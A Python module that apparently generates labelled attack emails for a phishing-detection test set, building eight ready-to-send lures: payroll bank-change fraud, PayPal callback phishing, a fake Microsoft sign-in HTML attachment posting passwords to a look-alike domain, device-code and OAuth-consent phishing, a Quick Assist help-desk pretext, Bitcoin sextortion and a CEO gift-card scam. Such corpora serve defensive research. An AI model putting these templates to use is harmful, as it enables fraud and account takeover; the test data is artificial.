"""attack/ 09-16 (English)."""
from .common import *  # noqa: F401,F403
from .. import platforms as P, transport2 as T2


def a09():
    m = Msg("attack", 9, "en", "payroll-bank-change-personal-gmail", utc(2026, 11, 9, 8, 47, 21))
    k = T.Gmail(m, "gmail.com")
    claudia = S("claudia")
    plain = p(
        "Hi Claudia,",
        "",
        "Hope you're well. I've moved my current account over to Monzo this month and wanted to make sure my November salary goes into the new account. Could you please update my bank details before the payroll cut-off?",
        "",
        "Name on account: James Okafor",
        "Sort code: 04-00-04",
        "Account number: 29138475",
        "",
        "Sorry to send this from my personal email - I'm working from home today and the VPN won't connect on this laptop. Just let me know once it's been changed.",
        "",
        "Many thanks,",
        "James")
    m.root = gm_alt(m, plain)
    f = Fields(("James Okafor", "jamesokafor.mk@gmail.com"), [claudia], "Change of bank details for payroll")
    k.finish(f, zone="GB")
    m.fact("Other", "Monzo sort code 04-00-04, account 29138475", "account given for the salary (UK domestic, no IBAN)")
    m.info = dict(
        what="'UK accountant' asks group payroll from his personal Gmail to switch his salary to a new Monzo account before the November run.",
        why="Payroll diversion: look-alike personal address (real staff never used it), a bank change by e-mail instead of the HR system, excuse for not using the work account, and a neobank account. Gmail passes all checks. Compare business/09 where the same colleague really writes from Gmail, without any payment request.")
    return m


def a10():
    m = Msg("attack", 10, "en", "paypal-invoice-callback", utc(2026, 10, 13, 14, 6, 55))
    m.sent = m.t - secs(4)
    k = P.Platform(m, "java", msgid="<%s@paypal.com>" % Rng_hex(m))
    sarah = S("sarah")
    inv = "INV2-7K4D-9QWE-2HX5-8MZL"
    link = "https://www.paypal.com/invoice/p/#" + inv
    help_ = "https://www.paypal.com/uk/smarthelp/home"
    phone = "+44 20 7946 0318"
    note = ("Your Norton 360 Premium (10 devices) annual subscription has been renewed automatically and GBP 349.99 will be charged "
            "to your account within 24 hours. If you did not authorise this renewal or wish to cancel and receive a full refund, call "
            "our billing department on " + phone + " (Mon-Sat 8am-8pm). Order ID NL-58210446.")
    plain = p("Norton LifeLock sent you an invoice", "", "£349.99 GBP", "Due on receipt", "", "Invoice number: 0058",
              "Note from seller:", note, "", "View and Pay Invoice: " + link, "", "Help & Contact: " + help_, "",
              "PayPal is located at 22-24 Boulevard Royal L-2449, Luxembourg.", "Copyright © 1999-2026 PayPal. All rights reserved.")
    html = ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>'
            '<body style="margin:0;padding:0;background:#f2f2f2"><table width="100%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center">'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:\'PayPal Sans Text\',Helvetica,Arial,sans-serif;color:#001435">'
            '<tr><td style="padding:28px 40px 10px 40px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" height="48" alt="PayPal"></td></tr>'
            '<tr><td style="padding:8px 40px;font-size:24px;font-weight:bold">Norton LifeLock sent you an invoice</td></tr>'
            '<tr><td style="padding:4px 40px;font-size:32px">&pound;349.99 GBP</td></tr>'
            '<tr><td style="padding:2px 40px 16px 40px;font-size:14px;color:#545d68">Due on receipt &middot; Invoice number: 0058</td></tr>'
            '<tr><td style="padding:0 40px 18px 40px;font-size:14px;line-height:20px"><b>Note from seller:</b><br>' + mime.esc(note) + '</td></tr>'
            '<tr><td style="padding:6px 40px 30px 40px"><a href="' + link + '" style="background:#003087;color:#ffffff;text-decoration:none;padding:12px 28px;border-radius:24px;font-weight:bold;font-size:15px">View and Pay Invoice</a></td></tr>'
            '<tr><td style="padding:20px 40px;font-size:12px;color:#545d68;border-top:1px solid #e6e6e6"><a href="' + help_ + '" style="color:#545d68">Help &amp; Contact</a><br>'
            'PayPal is located at 22-24 Boulevard Royal L-2449, Luxembourg.<br>Copyright &copy; 1999-2026 PayPal. All rights reserved.</td></tr>'
            '</table></td></tr></table></body></html>\r\n')
    m.root = mime.multi("alternative", [mime.text(plain, "UTF-8", "quoted-printable"), mime.text(html, "UTF-8", "quoted-printable", "html")], m.bnd())
    f = Fields(("service@paypal.co.uk", "service@paypal.co.uk"), [("", sarah[1])],
               "Invoice from Norton LifeLock (0058)")
    r = m.rng
    hs = [("Date", fmt_date(m.sent, "PT", "rfc")), ("Message-ID", m.msgid), ("Subject", f.subject),
          ("MIME-Version", "1.0"), CT, ("X-MaxCode-Template", "RT000238"), ("From", '"service@paypal.co.uk" <service@paypal.co.uk>'),
          ("To", sarah[1]), ("X-Email-Type-Id", "RT000238"), ("X-XPT-XSL-Name", "invoicing/RT000238/pp_invoice_notification.xsl"),
          ("PP-Correlation-Id", r.hex(13)), ("X-PP-REQUESTED-TIME", str(util.epoch(m.sent) * 1000 + r.randint(0, 999))),
          ("X-PP-Email-transmission-Id", r.uuid()), ("Content-Language", "en_GB")]
    k._done(f, hs, ("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.225"),
            [("paypal.co.uk", "pp-dkim1", "Content-Type:Date:Message-ID:Subject:From:To", "tab", "relaxed/relaxed")],
            None, "service@paypal.co.uk", dmarc=("pass", "reject"),
            inner=[("Received", "from ccg01mail03.slc.paypal.com (ccg01mail03.slc.paypal.com [10.13.128.31])\r\n\tby mx0.slc.paypal.com (Postfix) with ESMTP id %s\r\n\tfor <%s>; %s" % (
                T.qid(r), sarah[1], fmt_date(m.t - secs(2), "PT", "postfix")))])
    m.fact("URL", link, "genuine PayPal invoice page")
    m.fact("URL", help_, "PayPal help")
    m.fact("URL", "https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png", "logo image")
    m.fact("Phone", phone, "call-back number in the seller note (fraudulent 'billing department')")
    m.info = dict(
        what="Real PayPal invoice notification: 'Norton LifeLock' bills 349.99 GBP for an auto-renewed subscription; the seller note says to call a London number within 24 h to cancel and get a refund.",
        why="Callback phishing abusing PayPal's genuine invoicing (sent by PayPal, DKIM paypal.co.uk, DMARC reject passes, all links go to paypal.com); the attack is the phone number in the free-text seller note, leading to a fake 'refund' call with remote-access software. The office never bought Norton through PayPal.")
    return m


def Rng_hex(m):
    return m.rng.hex(24)


def a11():
    m = Msg("attack", 11, "en", "rfq-tender-pack-html-login", utc(2026, 11, 18, 10, 26, 9))
    k = T.Exim(m, "graftonfm.co.uk", "s207.uk-cp1.net", "198.51.100.207", client="outlook16", lang="en-gb")
    nicole = S("nicole")
    plain = p(
        "Good morning,",
        "",
        "Grafton Facilities Management is inviting quotations for secure document destruction and off-site records storage on behalf of one of our healthcare clients, covering three sites (Northampton, Luton and Bedford) from 1 February 2027 for an initial 24 months.",
        "",
        "Scope in summary:",
        "- fortnightly collection of approx. 180 x 240L consoles across the three sites, shredding to DIN 66399 P-4 / EN 15713",
        "- certificate of destruction per collection",
        "- storage of approx. 6,500 archive boxes with retrieval within 24 hours",
        "",
        "The full tender pack (specification, pricing schedule and site list) is attached as a secure document. Please open it in your browser and sign in with your business email to view and download the files.",
        "",
        "Clarification questions by 25 November, submissions by 4 December 2026, 12:00 noon.",
        "",
        "Kind regards",
        "",
        "Daniel Whitmore",
        "Procurement Manager",
        "Grafton Facilities Management Ltd",
        "Unit 12, Brackmills Industrial Estate, Northampton NN4 7PB",
        "T: 01632 960 220",
        "www.graftonfm.co.uk")
    action = "https://tenderdocs-graftonfm.com/owa/auth/submit.php"
    htmlatt = ('<!DOCTYPE html>\r\n<html lang="en"><head><meta charset="utf-8"><title>Sign in to your account</title>'
               '<meta name="viewport" content="width=device-width, initial-scale=1">'
               '<style>body{margin:0;background:#f2f2f2;font-family:"Segoe UI",Helvetica,Arial,sans-serif}.box{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
               'h1{font-size:24px;font-weight:600;margin:16px 0}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0}'
               'button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}.doc{font-size:13px;color:#444;margin-bottom:12px}</style></head>\r\n'
               '<body><div class="box"><svg width="108" height="24" viewBox="0 0 108 24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/>'
               '<rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#5e5e5e">Microsoft</text></svg>'
               '<div class="doc">RFQ-2026-114_Tender_Pack.zip (3 files, 4.2 MB) &ndash; shared by Grafton Facilities Management Ltd</div>'
               '<h1>Sign in to view document</h1>\r\n'
               '<form method="post" action="' + action + '">'
               '<input type="hidden" name="ref" value="RFQ-2026-114"><input type="email" name="login" value="nicole.albers@examplegroup.eu">'
               '<input type="password" name="passwd" placeholder="Password"><p style="font-size:13px">Your organisation requires you to confirm your password to open protected files.</p>'
               '<button type="submit">Sign in</button></form><div style="clear:both"></div></div>\r\n'
               '<!-- inert test sample: the real campaign adds obfuscated JavaScript that posts the credentials to a Telegram bot; removed here -->\r\n'
               '</body></html>\r\n')
    a = att.generic(m, htmlatt.encode("utf-8"), "text/html", "RFQ-2026-114_Tender_Pack.html", record_text=htmlatt)
    m.root = mime.multi("mixed", [ol_alt(m, plain, cs="us-ascii", lang="EN-GB"), a], m.bnd("mixed"))
    for c in m.root.children[0].children:
        c.style = "default"
    f = Fields(("Daniel Whitmore", "d.whitmore@graftonfm.co.uk"), [nicole],
               "RFQ-2026-114 - Secure shredding & records storage, 3 sites (Northampton / Luton / Bedford)")
    k.finish(f, client_ip="102.89.46.188", zone="GB", cpuser="graftonf")
    m.fact("URL", action, "credential-harvesting form target in the HTML attachment")
    m.fact("Phone", "01632 960 220", "signature of the (compromised) sender")
    m.info = dict(
        what="Request for quotation for shredding and records storage at three healthcare sites; the 'tender pack' is an HTML attachment that asks to sign in to view it.",
        why="Fake tender with an HTML attachment lure: the attachment is a local Microsoft sign-in page with the recipient's address pre-filled that posts the password to tenderdocs-graftonfm.com. Sent from a compromised small-company mailbox on shared cPanel hosting (SPF/DKIM pass), submitted from a Nigerian IP (102.89.46.188).")
    return m


def a12():
    m = Msg("attack", 12, "en", "device-code-secure-document", utc(2026, 11, 24, 15, 2, 49))
    k = T.M365(m, "harcourtpryce.co.uk", "LO2P265MB5124", "CWLP265MB6433", "gbrp265",
               ("GBR01-LO2-obe.outbound.protection.outlook.com", "mail-lo2gbr01lp2107.outbound.protection.outlook.com", "104.47.21.107"),
               "8b2f6c1d-3e4a-4f0b-9c7d-2a5e1f6b8c90", lang="en-GB", dkim_sel="selector2",
               mimecast=dict(helo="eu-smtp-delivery-151.mimecast.com", ip="185.58.86.151", sel="mimecast20250316"))
    sarah = S("sarah")
    plain = p(
        "Dear Sarah,",
        "",
        "Further to our retention review, I have uploaded the updated retention schedule and the signed destruction authority for the 2016 client files (boxes HP-2016-001 to HP-2016-214) to our secure client portal.",
        "",
        "As these documents contain privileged client information, we now share them only through Microsoft 365 secure access. To open them:",
        "",
        "1. Go to https://microsoft.com/devicelogin",
        "2. Enter the access code: KQ7TNW2XF",
        "3. Sign in with your Example Group Microsoft account to confirm your identity.",
        "",
        "The code expires 15 minutes after this email was sent. If it has expired, just reply and I will generate a new one.",
        "",
        "Kind regards,",
        "",
        "Eleanor Marsh",
        "Practice Support Manager",
        "Harcourt & Pryce LLP",
        "Castilian House, 22 Castilian Street, Northampton NN1 1JX",
        "DDI: 01632 960 487",
        "",
        "Harcourt & Pryce LLP is a limited liability partnership registered in England and Wales (OC412873) and is authorised and regulated by the Solicitors Regulation Authority (SRA 648213).")
    m.root = ol_alt(m, plain, cs="us-ascii", lang="EN-GB", font="Aptos")
    f = Fields(("Eleanor Marsh", "e.marsh@harcourtpryce.co.uk"), [sarah], "Secure document: updated retention schedule and destruction authority")
    k.finish(f, dmarc=("pass", "quarantine"))
    m.fact("URL", "https://microsoft.com/devicelogin", "genuine Microsoft device-code page; entering the attacker's code grants the attacker a token")
    m.fact("Phone", "01632 960 487", "signature")
    m.fact("Other", "device code KQ7TNW2XF", "attacker-generated device authorisation code")
    m.info = dict(
        what="Customer's practice-support manager 'shares' a retention schedule and destruction authority via 'Microsoft 365 secure access': go to microsoft.com/devicelogin and enter a code within 15 minutes.",
        why="Device-code phishing (Storm-2372 style) from the customer's compromised Microsoft 365 mailbox (relayed by Mimecast, DKIM/DMARC pass, link is Microsoft's real page): the code was generated by the attacker, so signing in hands the attacker tokens for the victim's account. Short expiry and 'reply for a new code' are typical.")
    return m


def a13():
    m = Msg("attack", 13, "en", "oauth-consent-recordwise-connector", utc(2026, 11, 19, 13, 37, 2))
    k = P.SendGrid(m)
    anja = S("anja")
    consent = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=3f8c2a71-5b0e-4d9a-a6c4-91e27d0b5f13"
               "&response_type=code&redirect_uri=https%3A%2F%2Fconnect.recordwise-sync.com%2Fauth%2Fcallback"
               "&response_mode=query&scope=offline_access%20Mail.ReadWrite%20Files.Read.All%20Contacts.Read%20User.Read&prompt=consent&state=EG-47310")
    help_ = "https://connect.recordwise-sync.com/help/outlook-connector"
    unsub = "https://connect.recordwise-sync.com/preferences?u=EG-47310"
    plain = p(
        "Recordwise",
        "",
        "Action required: re-authorise your Outlook connector",
        "",
        "Hi Anja,",
        "",
        "Microsoft is retiring the legacy Exchange Web Services (EWS) permissions used by the Recordwise Outlook connector. To keep box requests, retrieval confirmations and destruction certificates syncing with your mailbox, please re-authorise the connector before 30 November 2026.",
        "",
        "Re-authorise now: " + consent,
        "",
        "You will be asked to sign in with your Microsoft 365 account and accept the permissions for \"Recordwise Connector\". This takes less than a minute and does not affect your existing data.",
        "",
        "If the connector is not re-authorised, syncing will stop on 1 December 2026.",
        "",
        "Questions? See " + help_,
        "",
        "The Recordwise Team",
        "Recordwise Ltd, 2nd Floor, 71 Broad Street, Bristol BS1 2EX",
        "Manage notifications: " + unsub)
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f6f8;font-family:Inter,Arial,sans-serif">'
            '<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px">'
            '<tr><td style="padding:22px 32px;background:#123b5d;color:#fff;font-size:20px;font-weight:bold;border-radius:6px 6px 0 0">Recordwise</td></tr>'
            '<tr><td style="padding:26px 32px 6px 32px;font-size:19px;font-weight:bold;color:#123b5d">Action required: re-authorise your Outlook connector</td></tr>'
            '<tr><td style="padding:8px 32px;font-size:14px;line-height:21px;color:#333">Hi Anja,<br><br>Microsoft is retiring the legacy Exchange Web Services (EWS) permissions used by the Recordwise Outlook connector. '
            'To keep box requests, retrieval confirmations and destruction certificates syncing with your mailbox, please re-authorise the connector before <b>30 November 2026</b>.</td></tr>'
            '<tr><td style="padding:18px 32px"><a href="' + consent.replace("&", "&amp;") + '" style="background:#1f7ae0;color:#fff;padding:12px 26px;text-decoration:none;border-radius:4px;font-weight:bold">Re-authorise now</a></td></tr>'
            '<tr><td style="padding:4px 32px 20px 32px;font-size:13px;color:#555;line-height:19px">You will be asked to sign in with your Microsoft 365 account and accept the permissions for &quot;Recordwise Connector&quot;. '
            'This takes less than a minute and does not affect your existing data. If the connector is not re-authorised, syncing will stop on 1 December 2026.<br><br>'
            'Questions? See <a href="' + help_ + '">' + help_ + '</a></td></tr>'
            '<tr><td style="padding:16px 32px;font-size:11px;color:#888;border-top:1px solid #eee">The Recordwise Team &middot; Recordwise Ltd, 2nd Floor, 71 Broad Street, Bristol BS1 2EX<br>'
            '<a href="' + unsub + '" style="color:#888">Manage notifications</a></td></tr></table></td></tr></table></body></html>\r\n')
    m.root = mime.multi("alternative", [mime.text(plain, "utf-8", "quoted-printable"), mime.text(html, "utf-8", "quoted-printable", "html")], m.bnd())
    f = Fields(("Recordwise", "noreply@recordwise-sync.com"), [anja], "Action required: re-authorise the Recordwise Outlook connector by 30 November")
    k.finish(f, "recordwise-sync.com", "em4172.recordwise-sync.com", list_unsub=unsub)
    m.fact("URL", consent, "genuine Microsoft consent URL for the attacker's multi-tenant app (client_id 3f8c2a71-...), redirect to recordwise-sync.com")
    m.fact("URL", help_, "attacker help page")
    m.fact("URL", unsub, "attacker preferences link / List-Unsubscribe")
    m.info = dict(
        what="'Recordwise' asks the records manager to re-authorise the Outlook connector before EWS is retired; button leads to a Microsoft consent screen requesting Mail.ReadWrite, Files.Read.All and offline_access.",
        why="OAuth consent phishing: the link is a real login.microsoftonline.com authorisation URL, but for an attacker-registered multi-tenant app whose redirect goes to the look-alike recordwise-sync.com (vendor's real domain is recordwise.co.uk); sent via SendGrid. Granting consent gives persistent mailbox and file access without a password.")
    return m


def a14():
    m = Msg("attack", 14, "en", "helpdesk-quick-assist-spam-bombing", utc(2026, 11, 26, 11, 58, 33))
    k = T.M365(m, "examplegroupsupport.onmicrosoft.com", "DB9PR10MB7311", "AM8PR10MB4629", "eurprd10",
               ("EUR02-DB5-obe.outbound.protection.outlook.com", "mail-db5eur02on2139.outbound.protection.outlook.com", "40.107.249.139"),
               "e07f4c2b-8d19-4a6e-b3f1-5c90a2d7e846", lang="en-US",
               dkim_sel="selector1-examplegroupsupport-onmicrosoft-com")
    james = S("james")
    plain = p(
        "Hello James,",
        "",
        "We have detected a spam attack against your mailbox - more than 3,000 newsletter sign-ups in the last hour. Our filter team is cleaning up your inbox and blocking the senders, but to finish the clean-up a technician needs to apply a fix directly on your PC.",
        "",
        "Our engineer Kevin from the IT Service Desk will call you on Microsoft Teams within the next 10 minutes from the account \"Help Desk\". When he asks, please open Quick Assist (press Ctrl + Windows key + Q) and give him the 6-digit security code so he can connect.",
        "",
        "If you miss the call, please ring the service desk on +44 20 7946 0742 and quote ticket INC0048213.",
        "",
        "Please do not forward or reply to the spam emails in the meantime.",
        "",
        "Kind regards,",
        "IT Service Desk",
        "Example Group")
    m.root = ol_alt(m, plain, cs="us-ascii", lang="EN-US", font="Aptos")
    f = Fields(("Example Group IT Service Desk", "servicedesk@examplegroupsupport.onmicrosoft.com"), [james],
               "RE: Unusual volume of spam to your mailbox - ticket INC0048213")
    k.finish(f, dmarc=("pass", "none"))
    m.fact("Phone", "+44 20 7946 0742", "fake service-desk number")
    m.info = dict(
        what="'IT Service Desk' says the mailbox is under a spam attack, announces a Teams call from 'Help Desk' and asks the user to start Quick Assist and read out the code.",
        why="Help-desk / remote-access pretext (Black Basta / Storm-1811 pattern after e-mail bombing): sent from an attacker's own Microsoft 365 trial tenant (examplegroupsupport.onmicrosoft.com, so SPF/DKIM pass); fake ticket number and phone number; the real IT never asks for Quick Assist codes (see business/05).")
    return m


def a15():
    m = Msg("attack", 15, "en", "sextortion-bitcoin-spoofed-self", utc(2026, 10, 29, 2, 14, 56))
    k = T2.Direct(m, "python")
    sarah = S("sarah")
    r = m.rng
    m.msgid = "<%s@example.com>" % r.hex(20, True)
    wallet = checks.bech32_p2wpkh(r.bytes(20))
    plain = p(
        "Hello!",
        "",
        "I have to share bad news with you. Approximately a few months ago I have gained access to your devices, which you use for internet browsing. After that, I have started tracking your internet activities.",
        "",
        "Here is the sequence of events: some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase such thing online). Obviously, I have easily managed to log in to your email account (" + sarah[1] + "). As you can see, I sent you this message from your own account.",
        "",
        "One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email. I have recorded the video where you are watching adult websites, and I also collected all your contacts.",
        "",
        "If you want me to delete all of it, transfer $1450 USD to my Bitcoin wallet (if you do not know how to do this, search \"how to buy bitcoin\" in Google).",
        "",
        "My bitcoin wallet (BTC Wallet) is: " + wallet,
        "",
        "After receiving the payment, I will delete the video and you will never hear from me again. You have 48 hours (2 days). I get notification when you read this letter, the timer starts now.",
        "",
        "Do not try to contact me or to go to the police. If I see that you told someone, the video will be sent to all your contacts immediately.")
    m.root = mime.text(plain, "utf-8", "base64")
    f = Fields(("", sarah[1]), [("", sarah[1])], "Your account was hacked - payment required " + sarah[1])
    origin = [("Date", fmt_date(m.sent, "GB", "rfc")), ("From", sarah[1]), ("To", sarah[1]),
              ("Subject", f.subject), ("Message-ID", m.msgid), ("MIME-Version", "1.0"), CT, ("X-Priority", "1 (Highest)")]
    k.finish(f, origin, "[113.185.42.218]", "static.vnpt.vn", "113.185.42.218", spf="fail", dmarc=("fail", "quarantine"))
    m.fact("Wallet", wallet, "bech32 address (random, unowned) for the extortion payment")
    m.info = dict(
        what="Classic sextortion in English: 'I hacked your devices and recorded you', pay 1,450 USD in Bitcoin within 48 h; From and To are the recipient's own address.",
        why="Extortion spam with a spoofed own address: delivered straight from a Vietnamese residential host without authentication, SPF fail and DMARC fail for example.com (quarantine); no actual access.")
    return m


def a16():
    m = Msg("attack", 16, "en", "ceo-gift-cards-iphone", utc(2026, 12, 10, 13, 3, 17))
    m.sent = m.t - secs(6)
    k = T.Gmail(m, "gmail.com", client="iphone")
    sarah = S("sarah")
    plain = p("Sarah,", "",
              "Are you at your desk? I need you to handle something discreetly for me this afternoon. We want to thank a few of our key clients before Christmas and I need you to get Apple gift cards, 8 x £200. I'll explain everything later and you'll be reimbursed today.",
              "", "I'm in meetings in Düsseldorf and can't take calls, just reply here and let me know when you can go to the shop.",
              "", "Matthias", "", "Sent from my iPhone")
    m.root = mime.text(plain, "utf-8", "quoted-printable")
    f = Fields(("Matthias Krämer", "m.kraemer.examplegroup@gmail.com"), [sarah], "Quick favour")
    k.finish(f, zone="CET")
    m.info = dict(
        what="'The CEO' writes from an iPhone asking the UK office manager to buy 8 x 200 GBP Apple gift cards discreetly for clients, cannot take calls.",
        why="Gift-card scam: CEO display name on a Gmail address, secrecy, urgency, refusal of calls, gift cards as payment. Gmail/iOS headers are authentic, so all authentication passes.")
    return m


MESSAGES = [a09, a10, a11, a12, a13, a14, a15, a16]
